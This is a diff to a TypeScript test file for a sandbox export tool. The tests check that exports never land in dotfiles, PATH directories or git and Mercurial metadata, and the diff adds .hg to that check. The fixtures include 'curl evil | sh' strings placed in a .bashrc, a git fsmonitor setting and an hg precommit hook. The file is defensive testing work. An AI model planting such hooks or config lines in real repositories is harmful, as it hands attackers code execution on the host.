@@ -199,9 +199,9 @@ test("no export lands where the host runs what it finds (a home itself, its dot-
     ["a tar as a dotfile of the home", { target: join(home, ".bashrc.tar"), format: "tar" }, /startup files or configuration/],
     ["merge into a directory on PATH", { target: onPath, merge: true }, /on the host's PATH/],
     ["a new directory above a PATH directory's parent", { target: join(base, "tools"), merge: true }, /on the host's PATH/],
-    ["merge into a repository's hooks", { target: join(project, ".git", "hooks"), merge: true }, /git repository's metadata/],
-    ["a new directory in a repository's metadata", { target: join(project, ".git", "info") }, /git repository's metadata/],
-    ["the workspace's .git as the subtree", { target: join(home, "projects", "git-copy"), path: ".git" }, /git metadata, which is never exported/],
+    ["merge into a repository's hooks", { target: join(project, ".git", "hooks"), merge: true }, /repository's metadata \(\.git\)/],
+    ["a new directory in a repository's metadata", { target: join(project, ".git", "info") }, /repository's metadata \(\.git\)/],
+    ["the workspace's .git as the subtree", { target: join(home, "projects", "git-copy"), path: ".git" }, /repository metadata, which is never exported/],
   ];
   for (const [what, args, why] of attempts) {
     let error: unknown = null;
@@ -222,12 +222,12 @@ test("no export lands where the host runs what it finds (a home itself, its dot-
   assert.equal(existsSync(join(project, ".git", "config")), false);
   assert.equal(existsSync(join(project, "vendor", "lib", ".git")), false);
   const skipped = Object.fromEntries(r.skipped.map((s) => [s.path, s.reason]));
-  assert.match(skipped[".git"] ?? "", /git metadata/);
-  assert.match(skipped["vendor/lib/.git"] ?? "", /git metadata/);
+  assert.match(skipped[".git"] ?? "", /repository metadata/);
+  assert.match(skipped["vendor/lib/.git"] ?? "", /repository metadata/);
   // The hard link pair: whichever the walk meets first carries the content. A link entry into .git is left out;
   // the content under its own name (outside .git) is a plain file, which no git runs.
   if (existsSync(join(project, "config-link"))) assert.equal(lstatSync(join(project, "config-link")).nlink, 1);
-  else assert.match(skipped["config-link"] ?? "", /hard link into git metadata/);
+  else assert.match(skipped["config-link"] ?? "", /hard link into repository metadata/);
   // A project's own dotfiles are a project's: exported (a home's are refused above, by the target).
   assert.equal(readFileSync(join(project, ".bashrc"), "utf8"), "curl evil | sh\n");
   assert.deepEqual(readdirSync(project).filter((n) => n.startsWith(".pyro-export")), []);
@@ -337,13 +337,15 @@ test("a compromised guest's archives: `..`, absolute paths, writes through its o
         { path: ".git/config", body: "[core]\n\tfsmonitor = curl evil | sh\n" },
         { path: "cfg", type: "Link", linkpath: ".git/config" },
         { path: "deep/x/.git", body: "gitdir: /elsewhere\n" },
+        { path: ".hg/hgrc", body: "[hooks]\nprecommit = curl evil | sh\n" },
         { path: "ok.txt", body: "fine\n" },
       ],
       expect: (r, target) => {
         assert.deepEqual(r.skipped.map((s: any) => `${s.path}: ${s.reason}`).sort(), [
-          ".git: git metadata: its hooks and config would run in the host's git (never exported)",
-          "cfg: a hard link into git metadata (never exported)",
-          "deep/x/.git: git metadata: its hooks and config would run in the host's git (never exported)",
+          ".git: repository metadata: its hooks and config would run in the host's git or hg (never exported)",
+          ".hg: repository metadata: its hooks and config would run in the host's git or hg (never exported)",
+          "cfg: a hard link into repository metadata (never exported)",
+          "deep/x/.git: repository metadata: its hooks and config would run in the host's git or hg (never exported)",
         ]);
         assert.deepEqual(tree(target), ["ok.txt file 5"]);
       },
